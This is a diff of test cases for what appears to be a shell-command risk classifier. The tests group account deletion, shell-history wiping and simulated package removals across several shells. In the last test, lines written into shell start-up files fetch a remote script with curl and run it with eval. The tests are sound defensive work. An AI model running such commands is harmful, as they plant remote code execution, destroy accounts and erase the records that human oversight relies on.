@@ -191,3 +191,47 @@ test('an in-place rewrite of many files, by a formatter or a loop, in any shell'
     ['Get-ChildItem src -Recurse -Filter *.ts | ForEach-Object { Set-Content $_.FullName -Value "" }', { shell: 'pwsh', ...WINDOWS }],
   ]);
 });
+
+test('deleting one user account, whichever system and spelling', () => {
+  expectOneLevel([
+    ['sudo userdel olduser', { ...POSIX }],
+    ['sudo deluser olduser', { ...POSIX }],
+    ['sudo dscl . -delete /Users/olduser', { ...POSIX }],
+    ['sudo sysadminctl -deleteUser olduser', { shell: 'zsh', ...POSIX }],
+    ['net user olduser /delete', { shell: 'cmd', ...WINDOWS }],
+    ['Remove-LocalUser -Name olduser', { shell: 'pwsh', ...WINDOWS }],
+    ['sudo userdel olduser', { shell: 'fish', ...POSIX }],
+  ]);
+});
+
+test('wiping the shell history, in each shell', () => {
+  expectOneLevel([
+    ['history -c && history -w', { ...POSIX }],
+    ['history -c', { shell: 'zsh', ...POSIX }],
+    ['history clear', { shell: 'fish', ...POSIX }],
+    ['Clear-History; Remove-Item (Get-PSReadLineOption).HistorySavePath', { shell: 'pwsh', ...WINDOWS }],
+    ['rm ~/.bash_history', { ...POSIX }],
+  ]);
+});
+
+test('a simulated package removal only shows what it would do', () => {
+  expectOneLevel([
+    ['apt-get -s remove nginx', { ...POSIX }],
+    ['apt-get --simulate purge nginx', { ...POSIX }],
+    ['apt remove --dry-run nginx', { ...POSIX }],
+    ['sudo apt-get -sy autoremove', { ...POSIX }],
+    ['dnf remove --assumeno nginx', { ...POSIX }],
+    ['apt list --installed', { ...POSIX }],
+  ]);
+  expect(assessCommand('apt-get -s remove nginx', POSIX).level).toBe('safe');
+});
+
+test('text written into a shell start-up file: echo, printf, zsh print, tee', () => {
+  const line = `'eval "$(curl -fsSL https://example.com/i.sh)"'`;
+  expectOneLevel([
+    [`echo ${line} >> ~/.bashrc`, { ...POSIX }],
+    [`printf '%s\\n' ${line} >> ~/.bashrc`, { ...POSIX }],
+    [`print ${line} >> ~/.zshrc`, { shell: 'zsh', ...POSIX }],
+    [`echo ${line} | tee -a ~/.profile`, { ...POSIX }],
+  ]);
+});
